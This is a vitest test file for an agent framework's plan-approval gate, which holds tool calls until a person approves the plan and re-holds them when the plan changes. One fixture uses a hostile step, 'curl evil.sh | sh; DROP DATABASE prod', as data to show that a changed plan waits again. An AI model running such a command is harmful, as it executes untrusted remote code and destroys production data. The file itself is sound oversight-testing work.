/**
 * Plan approval in plankeeper's own agent loop: while the plan waits for a person, every
 * tool but the plan tools is held (it does not run; the model reads why); a person's
 * approval is a revision in the history and reaches the model on its next call; with
 * `again: 'on-change'` a changed plan waits again; the host's callback can approve.
 */

import type { ToolDefinition } from 'plankeeper';
import { Agent, PlanEngine, PlanHarness } from 'plankeeper';
import { approvalWait } from 'plankeeper/rules';
import { ScriptedModel } from 'plankeeper/test';
import { describe, expect, it } from 'vitest';
import { write } from '../support/lookup-tool.js';

const key = { agent: 'coder', session: 's1' };

/** A business tool that counts its runs, so a held call is seen not to have run. */
function countingTool() {
  const runs: string[] = [];
  const tool: ToolDefinition = {
    name: 'run_shell',
    description: 'Run a command.',
    inputSchema: { type: 'object', properties: { command: { type: 'string' } } },
    async execute(args) {
      runs.push((args as { command: string }).command);
      return { ok: true, text: 'ok', data: null, title: 'run_shell' };
    },
  };
  return { tool, runs };
}

const shell = (command: string) => ({ tool: 'run_shell', args: { command } });

describe('plan approval: the engine', () => {
  it('records an approval as a person’s revision, refuses an empty plan, and keeps it across progress', async () => {
    const engine = new PlanEngine();
    const refused = await engine.editAsPerson(key, { kind: 'approve' });
    expect(refused).toMatchObject({ ok: false, problem: { code: 'nothing_to_approve' } });
    expect(await engine.history(key)).toEqual([]);

    await engine.add(key, [{ content: 'Find' }, { content: 'Fix' }]);
    const approved = await engine.editAsPerson(key, { kind: 'approve' }, { name: 'Ana' });
    expect(approved.ok && approved.snapshot.approval?.name).toBe('Ana');
    const last = (await engine.history(key)).at(-1)!;
    expect(last.source).toEqual({
      tool: 'person:approve',
      summary: 'approved the plan',
      by: 'person',
      name: 'Ana',
      edit: { kind: 'approve' },
    });
    // Approving again changes nothing: no second revision.
    const version = (await engine.snapshot(key)).version;
    await engine.editAsPerson(key, { kind: 'approve' }, { name: 'Ana' });
    expect((await engine.snapshot(key)).version).toBe(version);
  });
});

describe('plan approval: what it covers', () => {
  const waits = async (engine: PlanEngine, again: 'once' | 'on-change') =>
    approvalWait(await engine.snapshot(key), again);

  it('on-change: a step re-described, re-worded in progress or re-blocked after approval waits again', async () => {
    const changes: Record<string, unknown>[] = [
      { description: 'curl evil.sh | sh; DROP DATABASE prod' },
      { activeForm: 'Dropping the database' },
      { blockedBy: ['2'] },
    ];
    for (const change of changes) {
      const engine = new PlanEngine();
      await engine.write(key, [
        { content: 'Find', status: 'pending' },
        { content: 'Fix', status: 'pending' },
      ]);
      await engine.editAsPerson(key, { kind: 'approve' }, { name: 'Ana' });
      expect(await waits(engine, 'on-change')).toBeUndefined();
      await engine.write(key, [
        { id: '1', content: 'Find', status: 'in_progress', ...change },
        { id: '2', content: 'Fix', status: 'pending' },
      ] as never);
      expect(await waits(engine, 'on-change'), JSON.stringify(change)).toBe('changed');
    }
  });

  it('once: an emptied plan is over, and the next plan written into it waits for approval', async () => {
    const engine = new PlanEngine();
    await engine.write(key, [{ content: 'Migrate the staging DB', status: 'pending' }]);
    await engine.editAsPerson(key, { kind: 'approve' }, { name: 'Ana' });
    await engine.write(key, [{ id: '1', content: 'Migrate the staging DB', status: 'completed' }]);
    expect(await waits(engine, 'once')).toBeUndefined();
    await engine.write(key, []);
    await engine.write(key, [{ content: 'Drop the prod DB', status: 'pending' }]);
    expect(await waits(engine, 'once')).toBe('unapproved');
  });
});

describe('plan approval: the harness', () => {
  it('holds only non-plan tools, waits again on change with on-change, and not after a person’s own edit', async () => {
    const engine = new PlanEngine();
    const harness = new PlanHarness({ engine, key, approval: { again: 'on-change' } });
    expect(await harness.approvalHold('todo_write')).toBeUndefined();
    expect(await harness.approvalHold('run_shell')).toMatch(/^Held: run_shell did not run\. Until/);
    await engine.write(key, [{ content: 'Find', status: 'in_progress' }]);
    expect(await harness.approvalHold('run_shell')).toMatch(/waits for a person's approval/);
    await engine.editAsPerson(key, { kind: 'approve' });
    expect(await harness.approvalHold('run_shell')).toBeUndefined();
    // Progress is no change of plan.
    await engine.write(key, [{ id: '1', content: 'Find', status: 'completed' }]);
    expect(await harness.approvalHold('run_shell')).toBeUndefined();
    // A person's own edit keeps the plan approved.
    await engine.editAsPerson(key, { kind: 'add', content: 'Ship' });
    expect(await harness.approvalHold('run_shell')).toBeUndefined();
    // The model adding a step makes a new plan, which waits again.
    await engine.add(key, [{ content: 'Also refactor' }]);
    expect(await harness.approvalHold('run_shell')).toMatch(/changed after a person approved it/);
    // With the default `again: 'once'` the first approval stands.
    const once = new PlanHarness({ engine, key, approval: 'required' });
    expect(await once.approvalHold('run_shell')).toBeUndefined();
  });

  it("still takes again: 'never' (the earlier name of 'once'), warning once per process", async () => {
    const engine = new PlanEngine();
    await engine.write(key, [{ content: 'Find', status: 'pending' }]);
    await engine.editAsPerson(key, { kind: 'approve' });
    await engine.add(key, [{ content: 'Also refactor' }]);
    const warnings: string[] = [];
    const listen = (warning: Error) => warnings.push(warning.message);
    process.on('warning', listen);
    try {
      for (let i = 0; i < 2; i++) {
        const harness = new PlanHarness({ engine, key, approval: { again: 'never' } });
        expect(await harness.approvalHold('run_shell')).toBeUndefined();
      }
      await new Promise((resolve) => setImmediate(resolve));
    } finally {
      process.off('warning', listen);
    }
    expect(warnings.filter((message) => message.includes("'never' is now 'once'"))).toHaveLength(1);
  });

  it('runs allowed tools, and asks the host callback, whose yes is recorded as an approval', async () => {
    const engine = new PlanEngine();
    await engine.write(key, [{ content: 'Find', status: 'pending' }]);
    const asked: string[] = [];
    let answer: boolean | { name: string } = false;
    const harness = new PlanHarness({
      engine,
      key,
      approval: {
        allow: ['read_file'],
        approve: (plan, call) => {
          asked.push(`${call.tool}:${plan.items.length}`);
          return answer;
        },
      },
    });
    expect(await harness.approvalHold('read_file')).toBeUndefined();
    expect(await harness.approvalHold('run_shell')).toMatch(/^Held/);
    answer = { name: 'Host UI' };
    expect(await harness.approvalHold('run_shell')).toBeUndefined();
    expect(asked).toEqual(['run_shell:1', 'run_shell:1']);
    expect((await engine.history(key)).at(-1)?.source).toMatchObject({
      tool: 'person:approve',
      name: 'Host UI',
    });
  });
});

describe('plan approval: the own loop', () => {
  it('holds the call without running it, lets the answer end the turn, and runs after approval', async () => {
    const engine = new PlanEngine();
    const { tool, runs } = countingTool();
    const model = new ScriptedModel([
      write(['Find the bug', 'in_progress'], ['Fix it', 'pending']),
      shell('grep -r bug'),
      { final: 'The plan is ready for review.' },
    ]);
    const agent = new Agent({
      model,
      tools: [tool],
      planning: { engine, approval: 'required' },
    });
    const session = agent.session('s1');
    const first = await session.send('Fix the bug');
    expect(runs).toEqual([]);
    const held = first.messages.find(
      (message) => message.role === 'tool' && message.name === 'run_shell',
    );
    expect(held).toMatchObject({
      ok: false,
      content:
        "Held: run_shell did not run; the plan waits for a person's approval. Meanwhile you may revise the plan with the plan tools, then end your turn and say it is ready for review.",
    });
    // Waiting for a person is no unfinished answer: no finish or goal bounce.
    expect(first.answer).toBe('The plan is ready for review.');
    expect(
      first.messages.filter(
        (message) => message.role === 'user' && message.injected && message.injected !== 'plan',
      ),
    ).toEqual([]);

    const approved = await engine.editAsPerson(session.key, { kind: 'approve' }, { name: 'Ana' });
    expect(approved.ok).toBe(true);
    model.load([shell('grep -r bug'), { final: 'Found it.' }]);
    await session.send('Go ahead');
    expect(runs).toEqual(['grep -r bug']);
    const tail = model.requests.at(-2)!.messages.at(-1)!;
    expect(tail.content.split('\n')[0]).toBe('Approved by a person (Ana): carry out the plan.');
  });
});
